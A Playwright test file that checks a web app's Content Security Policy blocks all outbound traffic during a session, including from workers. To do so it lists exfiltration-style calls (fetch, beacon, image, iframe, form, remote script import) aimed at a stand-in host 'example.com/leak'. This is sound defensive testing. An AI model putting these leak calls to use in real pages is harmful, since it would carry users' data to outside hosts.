// What the far end of the wire sees of a whole session: files of the page, asked for by name, and nothing else.
import { expect, test, type Page } from '@playwright/test';
import { host } from './host.ts';
import { edge, expectVerdicts, explained, paste, retype, text } from './visit.ts';

/** Ways out that a program could try, and the rule of the policy that has to stop each. */
const WAYS: Readonly<Record<string, readonly [rule: string, way: () => unknown]>> = {
  'fetch from this host': ['connect-src', () => fetch(`${location.origin}/favicon.svg?leak`)],
  'fetch from another': ['connect-src', () => fetch('https://example.com/leak', { mode: 'no-cors' })],
  XMLHttpRequest: [
    'connect-src',
    () => {
      const request = new XMLHttpRequest();
      request.open('POST', `${location.origin}/leak`);
      request.send('leak');
    },
  ],
  WebSocket: ['connect-src', () => new WebSocket(`${location.origin}/leak`)],
  EventSource: ['connect-src', () => new EventSource(`${location.origin}/leak`)],
  'a script from elsewhere': [
    'script-src',
    // @ts-expect-error there is no such module
    () => import(/* @vite-ignore */ 'https://example.com/leak.js'),
  ],
  // eslint-disable-next-line typescript/no-implied-eval
  'a program from text': ['trusted-types|script-src', () => new Function('return 1')() as unknown],
};

const WAYS_OF_PAGES: typeof WAYS = {
  'a beacon': ['connect-src', () => navigator.sendBeacon('/leak', 'leak')],
  'an image': ['img-src', () => void (new Image().src = 'https://example.com/leak.png')],
  'a frame': [
    'frame-src',
    () => {
      const frame = document.createElement('iframe');
      frame.src = 'https://example.com/leak';
      document.body.append(frame);
    },
  ],
  'a form': [
    'form-action',
    () => {
      const form = document.createElement('form');
      form.action = 'https://example.com/leak';
      document.body.append(form);
      form.submit();
    },
  ],
  'a worker from an address': ['trusted-types', () => new Worker('/assets/leak.js')],
  'HTML from text': ['trusted-types', () => void (document.createElement('div').innerHTML = '<b>leak</b>')],
};

/** A program that tells the rule that stopped each way, or "through". */
const trying = (ways: typeof WAYS) => `(async () => {
  const ways = {${Object.entries(ways)
    .map(([name, [, way]]) => `${JSON.stringify(name)}: ${String(way)}`)
    .join(', ')}};
  const stopped = {};
  for (const [name, way] of Object.entries(ways))
    stopped[name] = await new Promise((done) => {
      addEventListener('securitypolicyviolation', (event) => done(event.effectiveDirective), { once: true });
      // The first step runs with the rights of the test, a later one with those of the page.
      setTimeout(() => Promise.resolve().then(way).then(() => setTimeout(done, 10_000, 'through'), (error) => setTimeout(done, 10_000, String(error))), 0);
    });
  return stopped;
})()`;

const rulesOf = (ways: typeof WAYS) =>
  Object.fromEntries(
    Object.entries(ways).map(([name, [rule]]) => [name, expect.stringMatching(rule) as unknown]),
  );

/** Every worker that the page starts tries too when it is asked to: not all browsers let a test into a worker. */
const TRYING_IN_WORKERS = `
;{
  const asked = new BroadcastChannel('ways out');
  asked.onmessage = ({ data }) => { if (data === 'try') void ${trying(WAYS)}.then((stopped) => asked.postMessage(stopped)); };
}`;

async function letWorkersTry(page: Page): Promise<void> {
  await page.addInitScript((more) => {
    const Whole = Blob;
    globalThis.Blob = class extends Whole {
      constructor(parts: BlobPart[] = [], options: BlobPropertyBag = {}) {
        super(options.type === 'text/javascript' ? [...parts, more] : parts, options);
      }
    };
  }, TRYING_IN_WORKERS);
}

const stoppedInWorkers = (page: Page) =>
  page.evaluate(
    () =>
      new Promise<object[]>((done) => {
        const answers: object[] = [];
        const asked = new BroadcastChannel('ways out');
        asked.addEventListener('message', ({ data }: MessageEvent<object>) => {
          // the engine, and those of Monaco that are there
          if (answers.push(data) === 1) setTimeout(done, 2000, answers);
        });
        asked.postMessage('try');
      }),
  );

test(
  'a whole session sends nothing, and the browser would refuse to',
  { tag: '@firefox' },
  async ({ page, context }) => {
    const server = await host();
    const origins = new Set<string>();
    const errors: string[] = [];
    context.on('request', (request) => {
      const { protocol, origin } = new URL(request.url());
      if (protocol.startsWith('http') || protocol.startsWith('ws')) origins.add(origin);
    });
    page.on('console', (message) => {
      if (message.type() === 'error') errors.push(message.text());
    });
    page.on('pageerror', (error) => errors.push(error.message));
    await letWorkersTry(page);
    await page.goto(`${server.origin}/`);

    await test.step('paste, edit, ask, share, export, learn', async () => {
      await paste(page, text('sameAndCross.md'));
      await expect(page.getByRole('button', { name: '2 valid' })).toBeVisible();
      await edge(page, /Role_B in 222222222222/).click();
      await expect(explained(page)).toContainText('Role_B in 222222222222');
      await retype(page, text('main.tf'));
      await expect(edge(page, /^allowed/).first()).toBeVisible();
      await page.keyboard.press('ControlOrMeta+z');
      await expect(page.getByRole('button', { name: '2 valid' })).toBeVisible();
      await page.getByRole('button', { name: 'Share' }).click();
      await expect(page.getByRole('textbox', { name: /^Link to/ })).toHaveValue(/#g1\./);
      await page.keyboard.press('Escape');
      await page.getByRole('button', { name: 'Export', exact: true }).click();
      await page.getByRole('dialog').getByRole('radio', { name: 'SVG', exact: true }).check();
      const save = page.getByRole('dialog').getByRole('button', { name: 'Save file' });
      await Promise.all([page.waitForEvent('download'), save.click()]);
      await page.keyboard.press('Escape');
      await page.getByRole('button', { name: 'Learn', exact: true }).click();
      await expect(page.getByRole('dialog', { name: 'Learn' })).toBeVisible();
      await page.keyboard.press('Escape');
    });
    await expectVerdicts(page, [
      'Role_A 111111111111 > Role_B 111111111111: valid',
      'Role_A 111111111111 > Role_B 222222222222: valid',
    ]);
    expect(errors).toEqual([]);
    expect([...origins]).toEqual([server.origin]);
    expect(server.asked.filter(({ method, url }) => method !== 'GET' || url.includes('?'))).toEqual([]);
    expect(server.asked.filter(({ known, referrer }) => !known || referrer !== null)).toEqual([]);

    await test.step('a visitor can see it refused', async () => {
      await page.getByRole('button', { name: /Nothing is sent/ }).click();
      const dialog = page.getByRole('dialog', { name: 'What this page can send: nothing' });
      await dialog.getByRole('button', { name: 'Try to send something' }).click();
      await expect(dialog.getByText(/your browser refused by the rule connect-src/)).toBeVisible();
      await expect(dialog.getByText(/default-src 'none'/)).toBeVisible();
      await page.keyboard.press('Escape');
    });

    await test.step('a link to AWS gives nothing away', async () => {
      for (const link of await page.locator('a[target="_blank"]').all())
        expect(await link.getAttribute('rel')).toContain('noreferrer');
    });

    // Last, because a form that may not be sent leaves the page waiting.
    await test.step('every way out is shut, in the page and in its workers', async () => {
      const before = server.asked.length;
      const workers = await stoppedInWorkers(page);
      expect(workers).toEqual(workers.map(() => rulesOf(WAYS)));
      // one by one, because some are reported twice
      for (const [name, way] of Object.entries({ ...WAYS, ...WAYS_OF_PAGES }))
        expect(await page.evaluate<unknown>(trying({ [name]: way }))).toEqual(rulesOf({ [name]: way }));
      expect(server.asked.slice(before)).toEqual([]);
    });
    await server.stop();
  },
);
